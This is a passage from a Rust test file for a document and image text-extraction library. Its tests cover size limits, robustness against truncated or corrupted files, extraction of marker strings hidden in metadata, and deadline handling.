    let json = format!("[{}]", vec!["\"abcdef\""; 1000].join(","));
    let err = text(FileKind::Json, json.as_bytes(), 500).unwrap_err();
    assert!(matches!(err, ExtractError::TooLarge { .. }), "{err}");
}

/// Every prefix and many single-byte corruptions of every sample: extraction ends with text
/// or a typed error, never a panic (lopdf panics are caught and reported as malformed).
#[test]
fn truncated_and_corrupted_samples_never_panic() {
    let samples: Vec<(FileKind, Vec<u8>)> = vec![
        (
            FileKind::Png,
            docs::png_with_chunks(2, 2, &[docs::png_ztxt("k", SECRET)]),
        ),
        (FileKind::Jpeg, docs::jpeg_with_exif(SECRET)),
        (FileKind::Jpeg, docs::jpeg_with_xmp(SECRET)),
        (FileKind::Gif, docs::gif_with_comment(SECRET)),
        (
            FileKind::Webp,
            docs::webp_with_metadata(Some(&docs::exif_description(SECRET)), Some(SECRET)),
        ),
        (FileKind::Tiff, docs::exif_description(SECRET)),
        (FileKind::Pdf, docs::pdf(SECRET)),
        (FileKind::Docx, docs::docx(SECRET)),
        (FileKind::Odt, docs::odt(SECRET)),
    ];
    for (kind, full) in samples {
        let step = (full.len() / 300).max(1);
        for cut in (0..full.len()).step_by(step) {
            let _ = text(kind, &full[..cut], MAX);
        }
        for at in (0..full.len()).step_by(step) {
            let mut v = full.clone();
            v[at] ^= 0xa5;
            let _ = text(kind, &v, MAX);
        }
    }
}

#[test]
fn every_marked_sample_gives_its_marker() {
    for marker in [SECRET, IBAN] {
        let samples = docs::marked(marker);
        assert!(samples.len() >= 20);
        for (kind, place, bytes) in samples {
            let t = extract(&bytes, kind);
            assert_has(&t, marker, &format!("{kind} {place}"));
        }
    }
    // the same files without the marker do not give it
    for (kind, place, bytes) in docs::marked("harmless words") {
        let t = extract(&bytes, kind);
        assert!(!t.contains(SECRET), "{kind} {place}: {t:?}");
    }
}

/// With its deadline passed, reading the text of any marked sample stops with
/// [`ExtractError::Deadline`] (a nested office document too); with time left it gives the
/// same text as without a deadline.
#[test]
fn a_passed_deadline_stops_every_reader() {
    use std::time::{Duration, Instant};
    let samples = docs::marked(SECRET);
    for (kind, place, bytes) in &samples {
        let past = Instant::now();
        match super::text_until(*kind, bytes, MAX, past) {
            Err(ExtractError::Deadline { kind: k }) => assert_eq!(k, *kind, "{place}"),
            other => panic!("{kind} {place}: {other:?}"),
        }
        let later = Instant::now() + Duration::from_secs(600);
        let timed = super::text_until(*kind, bytes, MAX, later).expect("text in time");
        assert_eq!(timed, text(*kind, bytes, MAX).unwrap(), "{kind} {place}");
    }
}
